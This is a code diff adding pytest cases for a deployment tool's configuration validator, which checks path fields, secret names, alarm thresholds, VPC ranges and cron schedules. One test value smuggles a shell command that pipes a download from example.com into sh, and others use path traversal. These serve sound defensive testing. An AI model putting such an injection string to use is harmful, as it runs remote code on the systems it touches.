@@ -218,7 +218,47 @@ BAD_INPUTS = [
         "lacks ecs",
         "or a nat_mode of 'single' or 'per-az'",
     ),
-]
+    # Values that reach a shell command, a template or AWS and that AWS (or a shell) would take otherwise.
+    *[
+        (f"path field {key} {value!r}", {"services": [{"name": "alpha", "route_path": "/a", key: value}]}, {}, f"services[0].{key}",
+         repr(value), "a relative path inside the repository")
+        for key in ("source_path", "dockerfile", "build_context")
+        for value in ("services/x; curl example.com | sh #", "../outside", "/etc", "a/../../b", "two words", "line\nbreak")
+    ],
+    ("health path with ..", {"services": [{"name": "alpha", "route_path": "/a", "health_check_path": "/../admin"}]}, {},
+     "services[0].health_check_path", "'/../admin'", "no segment starting with ."),
+    ("empty health command", {"services": [{"name": "alpha", "route_path": "/a", "container_health_command": []}]}, {},
+     "services[0].container_health_command", "[]", "CMD or CMD-SHELL followed by the command"),
+    ("unknown health command form", {"services": [{"name": "alpha", "route_path": "/a", "container_health_command": ["RUN", "x"]}]},
+     {}, "services[0].container_health_command", "['RUN', 'x']", "CMD or CMD-SHELL"),
+    ("secret named PATH", {"services": [{"name": "alpha", "route_path": "/a", "secret_variable": "PATH"}]}, {},
+     "services[0].secret_variable", "'PATH'", "the task or its runtime sets that variable"),
+    ("secret named like the task's own", {"services": [{"name": "alpha", "route_path": "/a", "secret_variable": "SERVICE_VERSION"}]},
+     {}, "services[0].secret_variable", "'SERVICE_VERSION'", "expected another name"),
+    ("secret named AWS_", {"services": [{"name": "alpha", "route_path": "/a", "secret_variable": "AWS_SECRET_ACCESS_KEY"}]}, {},
+     "services[0].secret_variable", "'AWS_SECRET_ACCESS_KEY'", "starting with AWS_ or ECS_"),
+    ("NaN threshold", {}, {"alarms": {"target_5xx": {"threshold": float("nan")}}}, "alarms.target_5xx.threshold", "nan",
+     "a finite number, 0 or more"),
+    ("infinite threshold", {}, {"alarms": {"latency_p99": {"threshold": float("inf")}}}, "alarms.latency_p99.threshold", "inf",
+     "a finite number, 0 or more"),
+    ("negative threshold", {}, {"alarms": {"healthy_hosts": {"threshold": -1}}}, "alarms.healthy_hosts.threshold", "-1.0",
+     "a finite number, 0 or more"),
+    ("VPC too small to carve", {}, {"network": {"vpc_cidr": "10.0.0.0/26"}}, "network.vpc_cidr", "'10.0.0.0/26'",
+     "expected a /25 or larger"),
+    ("VPC in a link-local range", {}, {"network": {"vpc_cidr": "169.254.0.0/16"}}, "network.vpc_cidr", "'169.254.0.0/16'",
+     "link-local range"),
+    ("VPC on loopback", {}, {"network": {"vpc_cidr": "127.0.0.0/16"}}, "network.vpc_cidr", "'127.0.0.0/16'", "loopback range"),
+    ("off hours cron without ?", {}, {"services": {"scaling": {"off_hours": {"stop": "cron(0 20 * * MON-FRI *)",
+     "start": "cron(0 7 ? * MON-FRI *)"}}}}, "services.scaling.off_hours.stop", "'cron(0 20 * * MON-FRI *)'", "one of the days ?"),
+    ("off hours rate with a wrong unit", {}, {"services": {"scaling": {"off_hours": {"stop": "rate(1 hours)",
+     "start": "rate(2 hours)"}}}}, "services.scaling.off_hours.stop", "'rate(1 hours)'", "rate(N units)"),
+    ("off hours time zone", {}, {"services": {"scaling": {"off_hours": {"stop": "cron(0 20 ? * MON-FRI *)",
+     "start": "cron(0 7 ? * MON-FRI *)", "timezone": "Europe/Berln"}}}}, "services.scaling.off_hours.timezone", "'Europe/Berln'",
+     "did you mean 'Europe/Berlin'?"),
+    ("canary schedule", {}, {"canary": {"schedule": "every 5 minutes"}}, "canary.schedule", "'every 5 minutes'", "rate(N units)"),
+    ("a long value is quoted short", {"services": [{"name": "alpha", "route_path": "/a", "source_path": "x " * 2500}]}, {},
+     "services[0].source_path", "... (5002 characters)", "a relative path"),
+]  # fmt: skip
 
 
 @pytest.mark.parametrize(
@@ -286,3 +326,22 @@ def test_derived_priorities_that_collide_are_one_line_asking_for_an_explicit_one
         config_module.load(directory, "staging")
     (line,) = raised.value.problems
     assert "services[1].priority: 4242 (derived from route_path '/b') is already used by services[0]" in line
+
+
+def test_a_target_named_bootstrap_is_reserved(write_parameters):
+    """Its stack would be <project>-bootstrap: the assets bucket's stack, which a deploy would plan to replace."""
+    directory = write_parameters()
+    (directory / "bootstrap.yaml").write_text((directory / "staging.yaml").read_text())
+    with pytest.raises(config_module.ConfigError) as raised:
+        config_module.load(directory, "bootstrap")
+    [line] = raised.value.problems
+    assert "the target name 'bootstrap' is reserved: its stack would be 'shop-bootstrap'" in line
+
+
+def test_the_task_sets_exactly_the_variables_a_secret_may_not_take(make_config):
+    from templates.stacks.service import build
+
+    cfg = make_config()
+    (container,) = build(cfg, cfg.project.services[0]).to_dict()["Resources"]["TaskDefinition"]["Properties"]["ContainerDefinitions"]
+    assert [e["Name"] for e in container["Environment"]] == list(model.TASK_VARIABLES)
+    assert [s["Name"] for s in container["Secrets"]] == [{"Ref": "SecretVariable"}, *model.SETTING_VARIABLES]
